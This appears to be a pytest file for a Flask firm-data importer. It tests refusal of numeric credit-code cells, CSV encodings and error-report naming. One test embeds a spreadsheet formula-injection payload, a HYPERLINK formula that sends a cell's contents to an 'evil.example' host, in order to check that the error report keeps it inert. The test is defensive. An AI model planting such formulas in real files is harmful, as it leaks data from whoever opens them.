"""The importer reads every cell as text (DOMAIN §8, issue: a numeric USCC column stored
firms under other firms' codes): a code held as a number is refused with "format the column
as text", numbers elsewhere are read digit for digit, CSV files in UTF-8 (with or without a
byte-order mark) and GBK read the same, and error reports never overwrite each other."""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from flask_babel import force_locale
from flask_babel import gettext as _
from openpyxl import Workbook, load_workbook

from app.extensions import db as _db
from app.firms import importer
from app.firms.models import Contact, Firm
from app.firms.uscc import complete, validate
from tests.firms.test_import import HEADER, cli, row, run, write_csv, write_xlsx

COLUMN = {c.key: i for i, c in enumerate(importer.COLUMNS)}


def NUMBER_MESSAGE() -> str:
    return _("The code was stored as a number, which loses its last digits: format the "
             "column as text and enter the codes again.")


def digit_codes(count: int) -> list[str]:
    """Valid USCCs made only of digits: what Excel turns into numbers."""
    found = []
    n = 0
    while len(found) < count:
        code = complete(f"91320583{(n * 104729 + 430887941) % 10**9:09d}")
        if code.isdigit():
            found.append(code)
        n += 1
    return found


def numeric(code: str, as_float: bool) -> int | float:
    """The cell value a spreadsheet keeps for a code typed into a number cell."""
    return float(code) if as_float else int(code)


def firm_codes() -> set[str]:
    return set(_db.session.scalars(sa.select(Firm.uscc)))


def test_a_numeric_uscc_cell_is_refused_and_no_firm_gets_a_rounded_code(app, tmp_path):
    exact, rounded, typed = digit_codes(3)
    # what Excel keeps of an 18-digit number: 17 significant digits at best
    assert str(int(float(rounded))) != rounded
    rows = [row(1, uscc=numeric(exact, as_float=False)),
            row(2, uscc=numeric(rounded, as_float=True)),
            row(3, uscc=typed)]
    report = run(write_xlsx(tmp_path / "numbers.xlsx", rows))

    message = NUMBER_MESSAGE()
    assert {e.row_number: e.reason for e in report.rejected} == {2: message, 3: message}
    assert firm_codes() == {typed}  # the text cell only; never 9132…8976 for 9132…9414


def test_no_rounded_code_is_stored_even_when_it_passes_the_check(app, tmp_path):
    # Some float roundings of a code still pass the mod-31 check by chance (2 in 500 in the
    # report that found this); the numeric cell is refused before the check is looked at.
    lucky = next(c for c in digit_codes(400)
                 if validate(str(int(float(c)))).is_valid and str(int(float(c))) != c)
    report = run(write_xlsx(tmp_path / "lucky.xlsx", [row(1, uscc=float(lucky))]))
    assert len(report.rejected) == 1 and firm_codes() == set()


@pytest.mark.parametrize("locale, words", [("zh_Hans_CN", "文本"), ("zh_Hant", "文字"),
                                           ("en", "format the column as text")])
def test_the_refusal_is_in_the_importing_users_language(app, tmp_path, locale, words):
    path = write_xlsx(tmp_path / "numbers.xlsx", [row(1, uscc=int(digit_codes(1)[0]))])
    with force_locale(locale):
        report = run(path, dry_run=True)
    assert words in report.rejected[0].reason


def test_numbers_in_other_columns_are_read_digit_for_digit(app, tmp_path):
    rows = [row(1, contact_mobile=13812345678, employees=120),
            row(2, contact_mobile=13912345678.0, employees=35.0)]
    report = run(write_xlsx(tmp_path / "numbers.xlsx", rows))
    assert (report.created, report.rejected) == (2, [])
    stored = dict(_db.session.execute(sa.select(Firm.uscc, Firm.employees)).all())
    assert sorted(stored.values()) == [35, 120]
    mobiles = set(_db.session.scalars(sa.select(Contact.mobile)))
    assert mobiles == {"13812345678", "13912345678"}


def test_a_code_saved_to_csv_in_scientific_notation_is_refused_the_same_way(app, tmp_path):
    path = write_csv(tmp_path / "sci.csv", [row(1, uscc="9.13206E+17"), row(2)])
    report = run(path)
    assert report.created == 1
    assert report.rejected[0].reason == NUMBER_MESSAGE()


def test_a_csv_code_behind_a_tab_from_our_own_export_is_read(app, tmp_path):
    code = digit_codes(1)[0]
    report = run(write_csv(tmp_path / "tab.csv", [row(1, uscc="\t" + code)]))
    assert report.created == 1 and firm_codes() == {code}


NAMES = ["昆山鼎鑫电子科技有限公司", "昆山台商精密機械有限公司",
         "花桥经济开发区·测试（昆山）有限公司"]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "gbk"])
def test_csv_in_utf8_with_or_without_bom_and_gbk_reads_the_same(app, tmp_path, encoding):
    rows = [row(n + 1, name=name) for n, name in enumerate(NAMES)]
    path = write_csv(tmp_path / f"{encoding}.csv", rows, encoding=encoding)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8-sig")
    report = run(path)
    assert (report.created, report.rejected) == (3, [])
    assert set(_db.session.scalars(sa.select(Firm.name))) == set(NAMES)
    assert set(_db.session.scalars(sa.select(Contact.name))) == {"联系人1", "联系人2", "联系人3"}


def test_csv_and_xlsx_of_the_same_name_get_their_own_error_reports(app, tmp_path):
    bad = [row(1, area="火星镇")]
    write_csv(tmp_path / "firms.csv", bad)
    write_xlsx(tmp_path / "firms.xlsx", [row(2, area="月球镇")])
    for name in ("firms.csv", "firms.xlsx", "firms.csv"):
        result = cli(app, tmp_path / name, "--dry-run")
        assert result.exit_code == 0, result.output
    reports = sorted(p.name for p in tmp_path.glob("*errors*.xlsx"))
    assert reports == ["firms-csv-errors-2.xlsx", "firms-csv-errors.xlsx",
                       "firms-xlsx-errors.xlsx"]
    reason_of = {name: load_workbook(tmp_path / name).active.cell(2, 2 + len(HEADER)).value
                 for name in reports}
    assert "火星镇" in reason_of["firms-csv-errors.xlsx"]
    assert "月球镇" in reason_of["firms-xlsx-errors.xlsx"]


def test_the_error_report_keeps_hostile_cells_inert_and_codes_as_text(app, tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    sheet.append(row(1, uscc=int(digit_codes(1)[0]), name=hostile))
    sheet.cell(2, 1 + COLUMN["name"]).data_type = "s"  # typed as text, as a clerk would
    path = tmp_path / "bad.xlsx"
    workbook.save(path)
    report = run(path)
    assert report.rejected[0].reason == NUMBER_MESSAGE()
    out = io.BytesIO()
    importer.error_report(report, out)
    cells = load_workbook(out).active[2]
    uscc, name = cells[1 + COLUMN["uscc"]], cells[1 + COLUMN["name"]]
    # the digits the file held (openpyxl, like Excel, kept only 16 of them), as text
    assert uscc.data_type == "s" and uscc.value.isdigit() and len(uscc.value) == 18
    assert (name.value, name.data_type, name.quotePrefix) == (hostile, "s", True)


def test_a_workbook_with_text_codes_made_as_excel_would_imports(app, tmp_path):
    """A text-formatted code column (number format "@") with the codes as strings."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADER)
    code = digit_codes(1)[0]
    sheet.append(row(1, uscc=code))
    sheet.cell(2, 1 + COLUMN["uscc"]).number_format = "@"
    path = tmp_path / "text.xlsx"
    workbook.save(path)
    assert run(path).created == 1 and firm_codes() == {code}


def test_csv_reader_keeps_digits_exactly(app, tmp_path):
    code = digit_codes(1)[0]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADER, row(1, uscc=code)])
    path = tmp_path / "plain.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    assert run(path).created == 1 and firm_codes() == {code}
